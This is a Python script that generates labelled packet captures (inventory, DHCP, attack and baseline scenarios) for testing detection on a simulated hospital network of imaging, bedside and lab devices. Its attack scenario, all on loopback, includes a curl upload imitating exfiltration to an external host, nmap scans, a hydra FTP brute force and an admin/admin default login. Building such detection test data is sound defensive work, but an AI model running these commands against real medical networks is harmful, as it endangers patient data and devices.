#!/usr/bin/env python3
"""Regenerates the labelled evaluation scenarios in this folder.

Real programs talk over the loopback interface, each "device" using its own
127.x.y.z address; dumpcap captures; the capture is then rewritten offline to
a hospital address plan with real vendor OUIs and VLANs (PLAN below). The
truth files (*.truth.json) say what each device is and which findings the
attack scenario must raise.

Programs: pynetdicom/pydicom (DICOM SCU and SCP), Python sockets doing MLLP
and ASTM E1381 framing, curl and Python's http.server, dnsmasq and dig, nmap,
hydra, pyftpdlib (FTP server), snmpd and snmpget, inetutils telnet.

Scenarios:
  inventory.pcapng   modalities storing to a PACS, monitors and pumps sending
                     HL7, a lab analyzer, a receiver known by its TLS
                     certificate (openssl s_server), IT around them.
  dhcp.pcapng        a workstation leasing an address from dnsmasq (ISC
                     dhclient in a network namespace); analysed with
                     inventory.pcapng as one site.
  attacks.pcapng     an ultrasound uploading 40 MB in periodic chunks to an
                     internet address (frames cut to 128 bytes, wire lengths
                     kept), scans, brute force, a default-credential login,
                     DICOM to a rogue external AE.
  baseline.pcapng    an hour of normal clinical traffic (sessions recorded in
                     a few minutes, then spread over 3600 s by the rewrite).

Needs root, dumpcap (tshark), dnsmasq, dig, curl, nmap, hydra, snmpd, snmpget,
telnet, and from PyPI pynetdicom, pydicom, scapy, pyftpdlib.
"""
import json
import os
import random
import socket
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))

# loopback address -> (plan address, MAC, VLAN)
PLAN = {
    # servers
    "127.20.1.10": ("10.20.1.10", "00:05:69:a1:01:10", 20),  # PACS (VMware VM)
    "127.20.1.20": ("10.20.1.20", "00:05:69:a1:01:20", 20),  # interface engine (VMware VM)
    "127.20.1.30": ("10.20.1.30", "00:05:69:a1:01:30", 20),  # intranet web server (VMware VM)
    "127.20.1.2": ("10.20.1.2", "00:05:69:a1:01:02", 20),    # DNS (VMware VM)
    "127.20.1.40": ("10.20.1.40", "00:05:69:a1:01:40", 20),  # LIS (VMware VM)
    "127.20.1.50": ("10.20.1.50", "00:05:69:a1:01:50", 20),  # monitoring server (VMware VM)
    # imaging, VLAN 30
    "127.30.1.15": ("10.30.1.15", "44:4b:5d:3c:81:0f", 30),  # GE LOGIQ E10 ultrasound
    "127.30.1.21": ("10.30.1.21", "00:01:e3:4a:22:01", 30),  # Siemens SOMATOM CT
    "127.30.1.22": ("10.30.1.22", "00:09:5c:4e:22:02", 30),  # Philips EPIQ ultrasound
    "127.30.1.23": ("10.30.1.23", "00:02:b3:4e:22:03", 30),  # Canon Aquilion CT (Intel NIC)
    "127.30.1.24": ("10.30.1.24", "00:03:47:4e:22:04", 30),  # Hologic Selenia (Intel NIC)
    "127.30.1.25": ("10.30.1.25", "88:b4:36:4e:22:05", 30),  # FUJIFILM FCR
    # bedside, VLAN 40
    "127.40.2.7": ("10.40.2.7", "00:09:5c:11:22:33", 40),    # Philips IntelliVue MX800
    "127.40.2.8": ("10.40.2.8", "00:0f:14:11:22:34", 40),    # Mindray BeneVision N17
    "127.40.2.9": ("10.40.2.9", "00:1b:a1:11:22:35", 40),    # GE CARESCAPE B650 (other NIC)
    "127.40.3.9": ("10.40.3.9", "00:12:21:0a:0b:0c", 40),    # B. Braun infusion pump
    "127.40.3.10": ("10.40.3.10", "9c:c8:ae:0a:0b:0d", 40),  # BD Alaris PC unit
    "127.40.3.11": ("10.40.3.11", "58:42:e4:0a:0b:0e", 40),  # Baxter pump
    "127.40.3.12": ("10.40.3.12", "00:12:21:0a:0b:0f", 40),  # B. Braun pump with FTP (attacks)
    # lab, VLAN 50
    "127.50.1.5": ("10.50.1.5", "00:06:6b:21:00:05", 50),    # Sysmex XN analyzer
    # office, VLAN 60
    "127.60.5.21": ("10.60.5.21", "00:06:5b:4a:10:21", 60),  # Dell workstation
    "127.60.5.66": ("10.60.5.66", "00:06:5b:4a:10:66", 60),  # Dell laptop used by the attacker
    "127.60.7.3": ("10.60.7.3", "00:01:e6:77:00:03", 60),    # HP printer
    "127.40.2.20": ("10.40.2.20", "00:02:b3:11:22:40", 40),  # telemetry receiver known by its certificate (Intel NIC)
    "127.0.0.1": ("10.60.5.66", "00:06:5b:4a:10:66", 60),    # hydra cannot bind: the attacker
    # internet (reached through the router 10.20.0.1)
    "127.185.220.7": ("185.220.101.7", None, 20),
    "127.45.155.10": ("45.155.205.10", None, 20),
}
# The bedside VLAN the sweep probes: mostly empty addresses (RST from them).
for _i in range(1, 41):
    PLAN["127.40.4.%d" % _i] = ("10.40.4.%d" % _i, "00:12:21:0b:00:%02x" % _i, 40)
ROUTER_MAC = "00:00:0c:9f:f0:01"  # Cisco


def wait_port(host, port, timeout=10):
    end = time.time() + timeout
    while time.time() < end:
        try:
            socket.create_connection((host, port), timeout=0.5).close()
            return
        except OSError:
            time.sleep(0.1)
    raise RuntimeError(f"{host}:{port} never listened")


# ---------------------------------------------------------------- DICOM
MODALITIES = {
    "127.30.1.15": dict(ae="US_LOGIQ_E10", uid="1.2.840.113619.6.374", ver="LOGIQE10_R3",
                        Manufacturer="GE Healthcare", ManufacturerModelName="LOGIQ E10",
                        SoftwareVersions="R3.2.1", Modality="US", sop="1.2.840.10008.5.1.4.1.1.6.1"),
    "127.30.1.21": dict(ae="CT_SOMATOM1", uid="1.3.12.2.1107.5.1.4", ver="SIEMENS_S7VB10A",
                        Manufacturer="SIEMENS", ManufacturerModelName="SOMATOM Definition AS",
                        SoftwareVersions="syngo CT VA48A", Modality="CT", sop="1.2.840.10008.5.1.4.1.1.2"),
    "127.30.1.22": dict(ae="US_EPIQ7", uid="1.3.46.670589.14.1000.500", ver="EPIQ_5.0",
                        Manufacturer="Philips Medical Systems", ManufacturerModelName="EPIQ 7G",
                        SoftwareVersions="5.0.3", Modality="US", sop="1.2.840.10008.5.1.4.1.1.6.1"),
    "127.30.1.23": dict(ae="CT_AQUILION", uid="1.2.392.200036.9116.2.6.1.48", ver="TM_CT_V8",
                        Manufacturer="TOSHIBA", ManufacturerModelName="Aquilion ONE",
                        SoftwareVersions="V8.9", Modality="CT", sop="1.2.840.10008.5.1.4.1.1.2"),
    "127.30.1.24": dict(ae="MG_SELENIA", uid="1.2.840.113681.2.1", ver="HOLOGIC_1_10",
                        Manufacturer="HOLOGIC, Inc.", ManufacturerModelName="Selenia Dimensions",
                        SoftwareVersions="1.10.3", Modality="MG", sop="1.2.840.10008.5.1.4.1.1.1.2"),
    "127.30.1.25": dict(ae="CR_FCR", uid="1.2.392.200036.9125.0.1", ver="FUJI_CR_A06",
                        Manufacturer="FUJIFILM Corporation", ManufacturerModelName="FCR PROFECT CS",
                        SoftwareVersions="A06-11", Modality="CR", sop="1.2.840.10008.5.1.4.1.1.1"),
}


def dicom_scp(host, ae_title):
    from pynetdicom import AE, evt, AllStoragePresentationContexts
    from pynetdicom.sop_class import Verification
    scp = AE(ae_title=ae_title)
    scp.supported_contexts = AllStoragePresentationContexts
    scp.add_supported_context(Verification)
    return scp.start_server((host, 104), block=False,
                            evt_handlers=[(evt.EVT_C_STORE, lambda e: 0x0000)])


def dicom_store(src, dst, called, m, n=1):
    from pydicom.dataset import Dataset, FileMetaDataset
    from pydicom.uid import ExplicitVRLittleEndian, generate_uid
    from pynetdicom import AE
    from pynetdicom.sop_class import Verification
    ae = AE(ae_title=m["ae"])
    ae.implementation_class_uid = m["uid"]
    ae.implementation_version_name = m["ver"]
    ae.add_requested_context(Verification)
    ae.add_requested_context(m["sop"], ExplicitVRLittleEndian)
    assoc = ae.associate(dst, 104, ae_title=called, bind_address=(src, 0))
    if not assoc.is_established:
        return
    assoc.send_c_echo()
    for _ in range(n):
        ds = Dataset()
        ds.SOPClassUID = m["sop"]
        ds.SOPInstanceUID = generate_uid()
        ds.StudyInstanceUID = generate_uid()
        ds.SeriesInstanceUID = generate_uid()
        for k in ("Manufacturer", "ManufacturerModelName", "SoftwareVersions", "Modality"):
            setattr(ds, k, m[k])
        ds.StationName = m["ae"]
        ds.InstitutionName = "General Hospital"
        ds.PatientName = "SCENARIO^FICTITIOUS"
        ds.PatientID = "SCN-0001"
        ds.Rows = ds.Columns = 32
        ds.BitsAllocated = ds.BitsStored = 8
        ds.HighBit = 7
        ds.SamplesPerPixel = 1
        ds.PhotometricInterpretation = "MONOCHROME2"
        ds.PixelRepresentation = 0
        ds.PixelData = bytes(range(256)) * 4
        ds.file_meta = FileMetaDataset()
        ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
        assoc.send_c_store(ds)
    assoc.release()


# ---------------------------------------------------------------- HL7 / ASTM
def mllp(msg):
    return b"\x0b" + msg.replace("\n", "\r").encode() + b"\x1c\x0d"


def hl7_server(host, port, stop):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen(16)
    s.settimeout(0.5)

    def serve(c):
        buf = b""
        while True:
            try:
                d = c.recv(65536)
            except OSError:
                break
            if not d:
                break
            buf += d
            while b"\x1c\x0d" in buf:
                m, buf = buf.split(b"\x1c\x0d", 1)
                f = m.split(b"\r")[0].split(b"|")
                ctrl = f[9].decode() if len(f) > 9 else "0"
                ack = ("MSH|^~\\&|IE|GENERAL_HOSP|%s|%s|20261125120001||ACK|A%s|P|2.6\nMSA|AA|%s"
                       % (f[2].decode(), f[3].decode(), ctrl, ctrl))
                c.sendall(mllp(ack))
        c.close()

    while not stop.is_set():
        try:
            c, _ = s.accept()
        except socket.timeout:
            continue
        threading.Thread(target=serve, args=(c,), daemon=True).start()
    s.close()


MONITORS = {
    "127.40.2.7": ("MX800", "ICU3", "MX800^Philips^IntelliVue MX800^M.00.03"),
    "127.40.2.8": ("BENEVISION", "ICU3", "N17^Mindray^BeneVision N17^1.2"),
    "127.40.2.9": ("CARESCAPE", "ED", "B650^GE^CARESCAPE B650^2.0"),
    "127.40.3.10": ("ALARIS_GW", "WARD5", "8015^BD^Alaris PC Unit 8015^12.1"),
}


def hl7_send(src, app, fac, equipment, seq):
    c = socket.socket()
    c.bind((src, 0))
    c.connect(("127.20.1.20", 2575))
    oru = ("MSH|^~\\&|%s|%s|IE|GENERAL_HOSP|20261125120000||ORU^R01^ORU_R01|%s%04d|P|2.6\n"
           "PID|1||SCN-0001^^^GH^MR||SCENARIO^FICTITIOUS||19700101|U\n"
           "OBR|1|||69837-2^Vital signs^LN\n"
           "OBX|1|NM|8867-4^Heart rate^LN||72|/min|||||F|||||||%s\n" % (app, fac, app, seq, equipment))
    c.sendall(mllp(oru))
    c.recv(4096)
    c.close()


def astm_server(stop):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.20.1.40", 5000))
    s.listen(4)
    s.settimeout(0.5)
    while not stop.is_set():
        try:
            c, _ = s.accept()
        except socket.timeout:
            continue
        c.settimeout(2)
        try:
            while True:
                d = c.recv(4096)
                if not d:
                    break
                if d in (b"\x05",) or d.endswith(b"\r\n"):
                    c.sendall(b"\x06")
        except OSError:
            pass
        c.close()
    s.close()


def astm_frame(n, text):
    body = str(n).encode() + text.encode() + b"\r\x03"
    ck = "%02X" % (sum(body) % 256)
    return b"\x02" + body + ck.encode() + b"\r\n"


def astm_send():
    c = socket.socket()
    c.bind(("127.50.1.5", 0))
    c.connect(("127.20.1.40", 5000))
    c.sendall(b"\x05")
    c.recv(1)
    c.sendall(astm_frame(1, "H|\\^&|||XN-1000^00-22^21705^^^^|||||||P|LIS2-A2|20261125120000"))
    c.recv(1)
    c.sendall(astm_frame(2, "P|1||SCN-0001||SCENARIO^FICTITIOUS"))
    c.recv(1)
    c.sendall(astm_frame(3, "L|1|N"))
    c.recv(1)
    c.sendall(b"\x04")
    c.close()


# ---------------------------------------------------------------- IT
def http_server(host, port):
    return subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", host],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def curl_get(src, url, ua):
    subprocess.run(["curl", "-s", "-o", "/dev/null", "--interface", src, "-A", ua, url], check=False)


def dns_server():
    return subprocess.Popen(["dnsmasq", "--no-daemon", "--port=53", "--listen-address=127.20.1.2",
                             "--bind-interfaces", "--no-resolv", "--no-hosts",
                             "--address=/pacs.hospital.example/10.20.1.10",
                             "--address=/intranet.hospital.example/10.20.1.30"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def dig(src, name):
    subprocess.run(["dig", "@127.20.1.2", "-b", src, "+tries=1", "+time=1", name, "A"],
                   stdout=subprocess.DEVNULL, check=False)


def snmp_agent(tmp):
    conf = os.path.join(tmp, "snmpd.conf")
    with open(conf, "w") as f:
        f.write("agentAddress udp:127.60.7.3:161\n"
                "rocommunity hospital-ro 127.20.1.50\n"
                "sysDescr HP ETHERNET MULTI-ENVIRONMENT,ROM none,JETDIRECT,JD153,EEPROM JSI24090012\n"
                "sysObjectID .1.3.6.1.4.1.11.2.3.9.1\n"
                "sysName PRN-ICU3\n")
    return subprocess.Popen(["snmpd", "-f", "-Lo", "-C", "-c", conf], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)


def snmp_poll():
    subprocess.run(["snmpget", "-v2c", "-c", "hospital-ro", "--clientaddr=127.20.1.50", "127.60.7.3",
                    "1.3.6.1.2.1.1.1.0", "1.3.6.1.2.1.1.2.0", "1.3.6.1.2.1.1.5.0"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def ftp_server(tmp):
    root = os.path.join(tmp, "ftproot")
    os.makedirs(root, exist_ok=True)
    code = f"""
from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.servers import FTPServer
a = DummyAuthorizer(); a.add_user('admin', 'admin', {root!r}, perm='elradfmw')
class H(FTPHandler):
    banner = 'SpaceCom FTP ready'
    auth_failed_timeout = 0
H.authorizer = a
FTPServer(('127.40.3.12', 21), H).serve_forever()
"""
    return subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def ftp_login(src, user, password):
    import ftplib
    f = ftplib.FTP(source_address=(src, 0))
    f.connect("127.40.3.12", 21)
    try:
        f.login(user, password)
        f.quit()
    except ftplib.error_perm:
        f.close()


# ---------------------------------------------------------------- capture and rewrite
def capture(path, snaplen=0):
    args = ["dumpcap", "-q", "-B", "64", "-i", "lo", "-w", path, "-f", "not port 6010"]
    if snaplen:
        args[1:1] = ["-s", str(snaplen)]
    p = subprocess.Popen(args, stderr=subprocess.DEVNULL)
    time.sleep(2)
    return p


def stop_capture(p):
    time.sleep(1)
    p.terminate()
    p.wait()


def rewrite(raw, out, stretch=None, truncate_port=None):
    """Rewrites loopback addresses to PLAN; with stretch=(seconds), spreads
    the capture's sessions evenly over that many seconds (the order and the
    spacing inside each connection are kept)."""
    from scapy.all import Ether, IP, TCP, UDP, Dot1Q, rdpcap
    from scapy.utils import PcapNgWriter

    pkts = [p for p in rdpcap(raw) if IP in p and p[IP].src in PLAN and p[IP].dst in PLAN]
    if not pkts:
        raise RuntimeError("nothing captured")
    t0 = float(pkts[0].time)
    span = float(pkts[-1].time) - t0
    w = PcapNgWriter(out)
    # A conversation is seen on one VLAN: its initiator's.
    conv_vlan = {}
    for p in pkts:
        sip, smac, svlan = PLAN[p[IP].src]
        dip, dmac, dvlan = PLAN[p[IP].dst]
        ip = p[IP].copy()
        ip.src, ip.dst = sip, dip
        del ip.chksum
        if TCP in ip:
            del ip[TCP].chksum
        if UDP in ip:
            del ip[UDP].chksum
        # Off-site peers are reached through the router.
        src_mac = smac or ROUTER_MAC
        dst_mac = dmac or ROUTER_MAC
        l4 = ip[TCP] if TCP in ip else ip[UDP] if UDP in ip else None
        ports = (l4.sport, l4.dport) if l4 is not None else (0, 0)
        key = frozenset([(p[IP].src, ports[0]), (p[IP].dst, ports[1])])
        vlan = conv_vlan.setdefault(key, svlan if smac else dvlan)
        q = Ether(src=src_mac, dst=dst_mac) / Dot1Q(vlan=vlan) / ip
        t = float(p.time)
        if stretch:
            t = t0 + (t - t0) * (stretch / max(span, 1e-6))
        q.time = t
        if truncate_port and l4 is not None and truncate_port in ports and len(q) > 128:
            wire = len(q)
            q = Ether(bytes(q)[:128])
            q.time = t
            q.wirelen = wire
        w.write(q)
    w.close()


def tls_exchange(tmp):
    import ssl
    key = os.path.join(tmp, "key.pem")
    crt = os.path.join(tmp, "crt.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", crt,
                    "-days", "3650", "-subj", "/O=Philips Medical Systems/CN=IntelliVue Telemetry Receiver Philips"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
    srv = subprocess.Popen(["openssl", "s_server", "-accept", "127.40.2.20:443", "-cert", crt, "-key", key,
                            "-tls1_2", "-www", "-quiet"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_port("127.40.2.20", 443)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    raw = socket.create_connection(("127.40.2.20", 443), source_address=("127.60.5.21", 0))
    with ctx.wrap_socket(raw) as t:
        t.sendall(b"GET / HTTP/1.0\r\n\r\n")
        t.recv(4096)
    srv.terminate()


def dhcp(tmp):
    """A Dell workstation gets its address from dnsmasq over a veth pair
    in a network namespace (ISC dhclient, hostname option)."""
    out = os.path.join(HERE, "dhcp.pcapng")
    sh = lambda c: subprocess.run(c, shell=True, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    sh("ip netns del wwdhcp; ip link del wwd0")
    sh("ip netns add wwdhcp && ip link add wwd0 type veth peer name wwd1 && ip link set wwd1 netns wwdhcp")
    sh("ip link set wwd0 address 00:05:69:a1:01:05 && ip addr add 10.60.0.1/24 dev wwd0 && ip link set wwd0 up")
    sh("ip netns exec wwdhcp ip link set wwd1 address 00:06:5b:4a:10:77 && ip netns exec wwdhcp ip link set wwd1 up")
    conf = os.path.join(tmp, "dhclient.conf")
    with open(conf, "w") as f:
        f.write('send host-name "WS-RAD-07";\n')
    dns = subprocess.Popen(["dnsmasq", "--no-daemon", "--port=0", "--interface=wwd0", "--bind-interfaces",
                            "--dhcp-range=10.60.0.50,10.60.0.99,12h", "--dhcp-leasefile=" + os.path.join(tmp, "leases")],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    cap = subprocess.Popen(["dumpcap", "-q", "-i", "wwd0", "-w", out, "-f", "udp port 67 or udp port 68"],
                           stderr=subprocess.DEVNULL)
    time.sleep(2)
    sh(f"ip netns exec wwdhcp dhclient -1 -cf {conf} -pf {tmp}/dh.pid -lf {tmp}/dh.lease wwd1")
    time.sleep(2)
    sh(f"ip netns exec wwdhcp dhclient -r -cf {conf} -pf {tmp}/dh.pid -lf {tmp}/dh.lease wwd1")
    cap.terminate()
    cap.wait()
    dns.terminate()
    sh("ip netns del wwdhcp; ip link del wwd0")


def inventory(tmp):
    raw = os.path.join(tmp, "inv.pcapng")
    stop = threading.Event()
    scp = dicom_scp("127.20.1.10", "PACS_ARCHIVE")
    threading.Thread(target=hl7_server, args=("127.20.1.20", 2575, stop), daemon=True).start()
    threading.Thread(target=astm_server, args=(stop,), daemon=True).start()
    web = http_server("127.20.1.30", 80)
    dns = dns_server()
    snmpd = snmp_agent(tmp)
    wait_port("127.20.1.30", 80)
    wait_port("127.20.1.20", 2575)
    cap = capture(raw)
    for src, m in MODALITIES.items():
        dicom_store(src, "127.20.1.10", "PACS_ARCHIVE", m)
    for i, (src, (app, fac, eq)) in enumerate(MONITORS.items()):
        hl7_send(src, app, fac, eq, i)
    astm_send()
    dig("127.60.5.21", "intranet.hospital.example")
    curl_get("127.60.5.21", "http://127.20.1.30/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
    snmp_poll()
    # A telemetry receiver known only by its TLS certificate (TLS 1.2, so
    # the certificate crosses in the clear).
    tls_exchange(tmp)
    # Pumps known only by their MAC: a heartbeat to the intranet server.
    for src in ("127.40.3.9", "127.40.3.11"):
        s = socket.socket()
        s.bind((src, 0))
        s.connect(("127.20.1.30", 80))
        s.sendall(b"GET /status HTTP/1.0\r\n\r\n")
        s.recv(4096)
        s.close()
    stop_capture(cap)
    stop.set()
    scp.shutdown()
    for p in (web, dns, snmpd):
        p.terminate()
    rewrite(raw, os.path.join(HERE, "inventory.pcapng"))


def attacks(tmp):
    raw = os.path.join(tmp, "att.pcapng")
    scp = dicom_scp("127.20.1.10", "PACS_ARCHIVE")
    rogue = dicom_scp("127.45.155.10", "RECV_AE")
    ftp = ftp_server(tmp)
    exfil = subprocess.Popen([sys.executable, "-c", """
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get('Content-Length', 0))
        while n > 0:
            n -= len(self.rfile.read(min(n, 1 << 16)))
        self.send_response(200); self.send_header('Content-Length', '2'); self.end_headers(); self.wfile.write(b'ok')
    def log_message(self, *a): pass
http.server.HTTPServer(('127.185.220.7', 443), H).serve_forever()
"""])
    wait_port("127.40.3.12", 21)
    wait_port("127.185.220.7", 443)
    blob = os.path.join(tmp, "chunk.bin")
    with open(blob, "wb") as f:
        f.write(os.urandom(5 << 20))
    cap = capture(raw)
    # Normal first (the learning period): the ultrasound stores to the PACS
    # three times in the first minute.
    for i in range(3):
        dicom_store("127.30.1.15", "127.20.1.10", "PACS_ARCHIVE", MODALITIES["127.30.1.15"], n=1)
        time.sleep(20)
    # Exfiltration: 8 uploads of 5 MB, one every 15 s, to an internet host
    # (their payload is cut to 128 bytes per frame by the rewrite).
    for i in range(8):
        # Rate-limited so that dumpcap keeps every frame.
        subprocess.run(["curl", "-s", "-o", "/dev/null", "--interface", "127.30.1.15", "-X", "POST",
                        "--limit-rate", "8M", "-H", "Expect:",
                        "--data-binary", "@" + blob, "http://127.185.220.7:443/u"], check=False)
        if i < 7:
            time.sleep(15)
    # Vertical scan of a pump, horizontal sweep of the bedside VLAN.
    subprocess.run(["nmap", "-n", "-Pn", "-sS", "-e", "lo", "-S", "127.60.5.66", "-p", "1-300",
                    "--max-retries", "0", "127.40.3.9"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.run(["nmap", "-n", "-Pn", "-sS", "-e", "lo", "-S", "127.60.5.66", "-p", "23",
                    "--max-retries", "0"] + ["127.40.4.%d" % i for i in range(1, 41)],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    # Brute force with hydra against the pump's FTP service.
    words = os.path.join(tmp, "words.txt")
    with open(words, "w") as f:
        f.write("\n".join(["winter", "letmein!", "Passw0rd!", "spring22", "xyzzy1", "hunter22", "trustno2",
                           "zaq12wsx!", "q1w2e3r4t5!", "changeme1!"]) + "\n")
    subprocess.run(["hydra", "-l", "service", "-P", words, "-t", "1", "-W", "1", "ftp://127.40.3.12"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120, check=False)
    # A technician logs in with the vendor default.
    ftp_login("127.60.5.21", "admin", "admin")
    # The ultrasound sends a study to an AE on the internet.
    dicom_store("127.30.1.15", "127.45.155.10", "RECV_AE", MODALITIES["127.30.1.15"], n=1)
    stop_capture(cap)
    scp.shutdown()
    rogue.shutdown()
    ftp.terminate()
    exfil.terminate()
    rewrite(raw, os.path.join(HERE, "attacks.pcapng"), truncate_port=443)


def baseline(tmp):
    raw = os.path.join(tmp, "base.pcapng")
    stop = threading.Event()
    scp = dicom_scp("127.20.1.10", "PACS_ARCHIVE")
    threading.Thread(target=hl7_server, args=("127.20.1.20", 2575, stop), daemon=True).start()
    web = http_server("127.20.1.30", 80)
    dns = dns_server()
    snmpd = snmp_agent(tmp)
    wait_port("127.20.1.30", 80)
    cap = capture(raw)
    rnd = random.Random(7)
    # 60 rounds become 60 minutes: each round is what a minute holds.
    for r in range(60):
        hl7_send("127.40.2.7", *MONITORS["127.40.2.7"], r)
        hl7_send("127.40.2.8", *MONITORS["127.40.2.8"], r)
        if r % 6 == 0:
            src = rnd.choice(["127.30.1.15", "127.30.1.21", "127.30.1.22"])
            dicom_store(src, "127.20.1.10", "PACS_ARCHIVE", MODALITIES[src], n=1)
        if r % 3 == 0:
            dig("127.60.5.21", rnd.choice(["intranet.hospital.example", "pacs.hospital.example"]))
            curl_get("127.60.5.21", "http://127.20.1.30/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
        if r % 5 == 0:
            snmp_poll()
        time.sleep(0.5)
    stop_capture(cap)
    stop.set()
    scp.shutdown()
    for p in (web, dns, snmpd):
        p.terminate()
    rewrite(raw, os.path.join(HERE, "baseline.pcapng"), stretch=3600)


def main():
    which = sys.argv[1:] or ["inventory", "dhcp", "attacks", "baseline"]
    with tempfile.TemporaryDirectory() as tmp:
        for name in which:
            print("generating", name, flush=True)
            globals()[name](tmp)
    for f in sorted(os.listdir(HERE)):
        if f.endswith(".pcapng"):
            print(f, os.path.getsize(os.path.join(HERE, f)), "bytes")


if __name__ == "__main__":
    main()
